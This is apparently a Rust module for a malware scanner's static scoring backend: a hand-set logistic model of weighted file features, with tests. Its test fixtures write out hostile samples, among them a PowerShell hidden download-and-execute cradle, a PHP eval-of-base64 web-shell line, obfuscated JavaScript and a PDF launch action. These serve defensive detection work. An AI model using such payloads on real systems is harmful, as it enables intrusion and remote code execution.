//! A small scoring model that comes with the engine, over the features of the file alone.
//!
//! A logistic sum, and every term of it stands in [`TERMS`] with its reason. The weights were set by hand: no data was fitted,
//! so its probabilities rank files rather than measure anything, and a model that was trained on a corpus (`sim model train`)
//! knows better. Without any sign of malice, whatever the type, a file is benign.

use std::time::Instant;

use sha2::{Digest as _, Sha256};

use super::{Backend, decide};
use crate::{
    artifact::{Artifact, Failure, Finding},
    config::BackendConfig,
    features::{self, Feature, Features},
    odds::logistic,
};

/// What the sum begins with: a file that shows nothing is malicious with a probability of 2 %.
const INTERCEPT: f64 = -4.0;

/// One term: `weight` for each unit by which a feature exceeds `above`, up to `most` units.
#[derive(Clone, Copy, Debug)]
pub struct Term {
    /// What it looks at.
    pub feature: Feature,
    /// From where on it counts.
    pub above: f64,
    /// Units that count.
    pub most: f64,
    /// Log-odds for each.
    pub weight: f64,
    /// Why.
    pub reason: &'static str,
}

impl Term {
    /// Log-odds that it adds.
    fn of(&self, features: &Features) -> f64 {
        self.weight * (features.get(self.feature) - self.above).clamp(0.0, self.most)
    }
}

const fn term(feature: Feature, above: f64, most: f64, weight: f64, reason: &'static str) -> Term {
    Term { feature, above, most, weight, reason }
}

use Feature as F;

/// All terms. Counts are ln(1 + n): one hit is 0.7 units, three are 1.4, twenty are 3.
#[rustfmt::skip]
pub const TERMS: [Term; 65] = [
    // Any file.
    term(F::Malformed, 0.0, 1.0, 1.0, "headers that parsers reject and systems run are made by packers and by hand"),
    term(F::PackerWords, 0.0, 2.0, 0.6, "packed programs hide what they are, though some vendors pack as well"),
    term(F::RansomWords, 0.6, 3.0, 0.9, "ransom notes, and commands that destroy backups; a single mention is a newspaper"),
    term(F::StealerWords, 0.6, 3.0, 0.9, "several places of passwords and wallets are of interest to thieves alone"),
    term(F::EvasionWords, 0.6, 3.0, 0.4, "who looks for several sandboxes has something to hide from them"),
    term(F::PersistenceWords, 0.0, 3.0, 0.4, "wants to be started again; so do updaters"),
    term(F::CommandWords, 0.6, 3.0, 0.25, "system programs that attacks live off; administrators name them too"),
    term(F::DosStubs, 0.8, 2.0, 0.8, "further programs inside: droppers, and installers"),
    // Windows programs.
    term(F::IsPe, 0.0, 1.0, 0.6, "most malware is for Windows"),
    term(F::PeEntropyEntry, 7.0, 1.0, 1.8, "code does not exceed 7 bits per byte; compressed or encrypted code does"),
    term(F::PeEntropyMax, 7.2, 0.8, 0.8, "a section that is compressed or encrypted"),
    term(F::PeWritableCode, 0.0, 2.0, 0.9, "code that is written while it runs: unpackers, and injected code"),
    term(F::PeEmptyCode, 0.0, 1.0, 1.2, "code that is not in the file: it is unpacked first"),
    term(F::PeOddNames, 0.2, 0.8, 1.0, "sections that no compiler made"),
    term(F::PeEntryLast, 0.0, 1.0, 0.6, "starts in its last section, as unpackers and file infectors do"),
    term(F::PeEntryOutside, 0.0, 1.0, 1.2, "starts where nothing is to be executed"),
    term(F::PeEntryWritable, 0.0, 1.0, 0.5, "starts in a section that it writes"),
    term(F::PeGrowth, 1.0, 2.0, 0.5, "far larger in memory than in the file"),
    term(F::PeNoImports, 0.0, 1.0, 1.3, "finds its functions by itself, so that nobody sees which"),
    term(F::PeImportInject, 0.6, 2.5, 0.7, "functions that reach into other processes; debuggers and security products need them as well"),
    term(F::PeImportSpy, 0.6, 2.5, 0.4, "functions that watch keys and screens; so do games"),
    term(F::PeImportRegistry, 0.6, 2.5, 0.2, "writes the registry or installs services; so do installers"),
    term(F::PeImportNetwork, 0.0, 2.5, 0.15, "uses the network"),
    term(F::PeImportCrypto, 0.0, 2.5, 0.15, "encrypts"),
    term(F::PeImportEvade, 0.6, 2.5, 0.15, "looks for debuggers; some runtimes do always"),
    term(F::PeTls, 0.0, 1.0, 0.15, "code that may run before the entry point"),
    term(F::PeOddTime, 0.0, 1.0, 0.3, "a time of building that cannot be; reproducible builds have one too"),
    term(F::PeEntropyResources, 7.2, 0.8, 0.6, "resources that are compressed or encrypted: a payload, or pictures"),
    term(F::PeEntropyOverlay, 7.2, 0.8, 0.4, "compressed or encrypted bytes behind the program: a payload, or an installer's files"),
    term(F::PeSigned, 0.0, 1.0, -2.0, "signed, at a cost, by somebody who can be found; stolen signatures are rare"),
    term(F::PeDebug, 0.0, 1.0, -0.5, "debug information is left in by developers, taken out by others"),
    // Programs elsewhere.
    term(F::ElfNoSections, 0.0, 1.0, 1.8, "no section headers: packed, or mended by hand"),
    term(F::ElfWritableCode, 0.0, 1.0, 1.5, "code that is written while it runs"),
    term(F::ElfEntropyMax, 7.2, 0.8, 2.0, "a segment that is compressed or encrypted"),
    term(F::ElfStatic, 0.0, 1.0, 0.7, "brings everything along, as what must run on any router does"),
    term(F::ElfStripped, 0.0, 1.0, 0.3, "without symbols, as malware is; so is what distributions ship"),
    term(F::ElfSmallMachine, 0.0, 1.0, 0.8, "for routers and cameras, to which programs seldom come as files"),
    term(F::MachOWritableCode, 0.0, 1.0, 1.5, "code that is written while it runs"),
    term(F::MachOEntropyMax, 7.2, 0.8, 1.5, "a segment that is compressed or encrypted"),
    term(F::MachOSigned, 0.0, 1.0, -0.5, "signed; often by nobody in particular"),
    // Scripts.
    term(F::ScriptEvalOfDecoded, 0.0, 2.5, 5.0, "decodes or fetches text and runs it at once: the shape of loaders and web shells"),
    term(F::ScriptEval, 0.0, 2.5, 0.6, "runs text as code"),
    term(F::ScriptDecode, 0.0, 2.5, 0.6, "decodes text"),
    term(F::ScriptRun, 0.0, 2.5, 0.5, "starts programs"),
    term(F::ScriptDownload, 0.0, 2.5, 0.5, "fetches from the network"),
    term(F::ScriptHidden, 0.0, 2.5, 1.2, "hides its windows, skips policies, silences errors"),
    term(F::ScriptInput, 0.0, 2.5, 0.1, "works on what a visitor sends, as all of the web does"),
    term(F::ScriptEscapes, 2.0, 3.0, 0.6, "more escaped characters than a language needs"),
    term(F::ScriptJoins, 2.0, 3.0, 0.5, "words taken apart and joined again"),
    term(F::Base64Runs, 0.0, 1.5, 0.3, "long runs of base64: a payload, or a picture"),
    term(F::HexRuns, 0.0, 1.5, 0.3, "long runs of hexadecimal digits"),
    term(F::IsVbScript, 0.0, 1.0, 0.8, "VBScript is written by few others any more"),
    term(F::IsPowerShell, 0.0, 1.0, 0.3, "PowerShell is a frequent first stage"),
    // Documents and archives.
    term(F::MacroMarks, 0.0, 2.0, 0.8, "documents with macros"),
    term(F::MacroAutoOpen, 0.0, 2.0, 2.2, "macros that run when the document is opened"),
    term(F::DocumentObjects, 0.0, 2.0, 1.0, "embedded objects and templates from elsewhere"),
    term(F::PdfScript, 0.0, 1.5, 1.8, "a document that runs JavaScript"),
    term(F::PdfOpen, 0.0, 1.5, 1.2, "does something as soon as it is opened"),
    term(F::PdfLaunch, 0.0, 1.5, 1.8, "a document that starts programs or sends forms"),
    term(F::PdfEmbedded, 0.0, 1.5, 0.3, "carries files; object streams alone are nothing special"),
    term(F::IsShortcut, 0.0, 1.0, 1.5, "shortcuts are not sent to others, but for what they start"),
    term(F::ArchiveDoubleNames, 0.0, 1.5, 4.0, "programs in an archive that pretend to be documents"),
    term(F::ArchiveLocked, 0.0, 1.0, 0.8, "locked, often so that no scanner looks in"),
    term(F::IsMedia, 0.0, 1.0, -1.0, "images and sounds are seldom anything else"),
    term(F::IsText, 0.0, 1.0, -0.5, "text that nothing runs"),
];

/// The backend that scores files by [`TERMS`].
#[derive(Clone, Debug)]
pub struct StaticScan {
    name: String,
    fingerprint: String,
    threshold: f64,
}

impl StaticScan {
    /// With the threshold of `config`, or one half.
    pub fn new(config: &BackendConfig) -> StaticScan {
        let threshold = config.threshold.unwrap_or(0.5);
        let mut digest = Sha256::new();
        digest.update(INTERCEPT.to_le_bytes());
        for Term { feature, above, most, weight, .. } in TERMS {
            digest.update(feature.name());
            [above, most, weight].into_iter().for_each(|number| digest.update(number.to_le_bytes()));
        }
        let fingerprint = format!("static:{}:{}:{threshold}", features::fingerprint(), hex::encode(&digest.finalize()[..8]));
        StaticScan { name: config.name().to_owned(), fingerprint, threshold }
    }
}

/// Probability that a file with these features is malicious.
pub fn probability(features: &Features) -> f64 {
    logistic(INTERCEPT + TERMS.iter().map(|term| term.of(features)).sum::<f64>())
}

impl Backend for StaticScan {
    fn name(&self) -> &str {
        &self.name
    }

    fn fingerprint(&self) -> &str {
        &self.fingerprint
    }

    fn scan(&self, artifact: &Artifact<'_>, _: Instant) -> Result<Finding, Failure> {
        decide(artifact, self.threshold, |features| Ok(probability(features)))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{config::BackendKind, features::packed_pe};

    fn malice(content: &[u8]) -> f64 {
        probability(&Features::of(content))
    }

    #[test]
    fn what_hides_and_what_attacks_is_malicious() {
        let php = format!("<?php @eval(base64_decode('{}'));", "QUJD".repeat(40));
        let javascript = b"var _0x1 = 'abc'; eval(unescape('%u9090%u9090%u4141')); document.write(atob('eA=='));";
        let powershell = b"powershell -nop -w hidden -ep bypass -enc aQBlAHgA; IEX (New-Object Net.WebClient).DownloadString('http://x/y')";
        let pdf = b"%PDF-1.4\n1 0 obj << /OpenAction << /S /Launch >> /AA << /JavaScript /JS (x) >> >>";
        let samples: [(&str, &[u8]); 5] =
            [("pe", &packed_pe()), ("php", php.as_bytes()), ("js", javascript), ("powershell", powershell), ("pdf", pdf)];
        for (what, content) in samples {
            assert!(malice(content) > 0.5, "{what}: {}", malice(content));
        }
    }

    #[test]
    fn what_shows_nothing_is_benign() {
        let samples: [(&str, &[u8]); 7] = [
            ("nothing", b""),
            ("text", b"Dear reader,\nthis is a plain text about ransom and http://example.org.\n"),
            ("bytes", &[7, 8, 9, 0, 1]),
            ("shell", b"#!/bin/sh\nset -e\ncurl -O https://example.org/x.tar.gz\ntar xf x.tar.gz\n./configure && make\n"),
            ("javascript", b"function add(a, b) { return a + b; }\nwindow.add = add;\n"),
            ("php", b"<?php\n$name = $_GET['name'];\necho htmlspecialchars($name);\n"),
            ("png", b"\x89PNG\r\n\x1A\n\0\0\0\rIHDR"),
        ];
        for (what, content) in samples {
            assert!(malice(content) < 0.2, "{what}: {}", malice(content));
        }
    }

    /// A program of every Linux. (Not this one: it is full of the words that it looks for.)
    #[test]
    #[cfg(target_os = "linux")]
    fn an_ordinary_program_is_benign() {
        assert!(malice(&std::fs::read("/bin/sh").unwrap()) < 0.2);
    }

    #[test]
    fn the_threshold_decides_and_stands_in_the_fingerprint() {
        let scan = |threshold, content: &'static [u8]| {
            let config = BackendConfig { threshold, ..BackendConfig::of(BackendKind::Static) };
            let backend = StaticScan::new(&config);
            let artifact = Artifact { content: Some(content), ..Artifact::default() };
            (backend.scan(&artifact, Instant::now()).unwrap().result, backend.fingerprint)
        };
        let (benign, usual) = scan(None, b"text");
        assert_eq!(benign.malicious, Some(false));
        assert!(benign.confidence.unwrap() > 0.9);
        let (malicious, strict) = scan(Some(0.001), b"text");
        assert_eq!(malicious.malicious, Some(true));
        assert!(usual.starts_with(&format!("static:{}:", features::fingerprint())), "{usual}");
        assert!(usual.ends_with(":0.5") && strict.ends_with(":0.001") && usual.starts_with("static:1:"), "{usual} {strict}");
        assert!(StaticScan::new(&BackendConfig::of(BackendKind::Static)).scan(&Artifact::default(), Instant::now()).is_err());
    }
}
